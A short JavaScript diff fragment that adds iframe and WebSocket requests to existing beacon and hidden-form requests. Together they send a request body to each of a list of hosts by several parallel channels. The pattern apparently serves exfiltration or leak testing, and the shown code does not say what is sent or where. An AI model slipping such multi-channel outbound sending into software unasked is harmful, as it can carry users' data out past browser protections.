@@ -28,6 +28,16 @@ const tries = hosts.flatMap((host) => {
     }),
     new Promise((end) => { navigator.sendBeacon(address, body); end(null); }),
     new Promise((end) => {
+      const frame = document.createElement("iframe");
+      frame.src = address;
+      frame.onload = () => end(null);
+      document.body.append(frame);
+    }),
+    new Promise((end) => {
+      const socket = new WebSocket(address.replace("http", "ws"));
+      socket.onopen = socket.onerror = () => end(null);
+    }),
+    new Promise((end) => {
       const form = document.createElement("form");
       const frame = document.createElement("iframe");
       frame.name = `f${Math.random()}`;
